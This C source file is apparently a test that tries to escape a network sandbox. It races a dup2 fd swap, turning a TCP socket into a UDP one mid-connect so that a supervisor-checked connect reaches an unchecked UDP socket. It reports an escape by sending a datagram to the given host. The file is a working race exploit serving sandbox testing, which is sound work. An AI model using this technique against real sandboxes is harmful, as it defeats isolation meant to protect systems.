/* A second thread swaps the connecting fd for a UDP socket (dup2) at a random moment
 * while the main thread connects it as TCP, then exits. If the supervisor checked the
 * socket, then counted the threads and let the kernel redo the call (CONTINUE), the kernel
 * would connect the UDP socket, which Landlock does not check, to any address.
 *
 *     fd_swap_race HOST PORT ATTEMPTS MAXSPIN
 *
 * Exits 0 after sending a datagram through a swapped-and-connected socket (an escape),
 * 2 when no attempt escaped. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static int tcp_fd, udp_fd;
static volatile long spin;

static void *swapper(void *arg) {
    (void)arg;
    for (volatile long i = 0; i < spin; i++)
        ;
    dup2(udp_fd, tcp_fd);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5)
        return 64;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &sa.sin_addr);
    int attempts = atoi(argv[3]), maxspin = atoi(argv[4]);
    srand(getpid());
    for (int i = 0; i < attempts; i++) {
        tcp_fd = socket(AF_INET, SOCK_STREAM, 0);
        udp_fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (tcp_fd < 0 || udp_fd < 0) {
            perror("socket");
            return 1;
        }
        spin = rand() % (maxspin + 1);
        pthread_t t;
        pthread_create(&t, NULL, swapper, NULL);
        int rc = connect(tcp_fd, (struct sockaddr *)&sa, sizeof sa);
        pthread_join(t, NULL);
        int type = 0;
        socklen_t len = sizeof type;
        getsockopt(tcp_fd, SOL_SOCKET, SO_TYPE, &type, &len);
        if (rc == 0 && type == SOCK_DGRAM) {
            send(tcp_fd, "escaped", 7, 0);
            printf("escaped after %d attempts\n", i + 1);
            return 0;
        }
        close(tcp_fd);
        close(udp_fd);
    }
    printf("no escape in %d attempts\n", attempts);
    return 2;
}
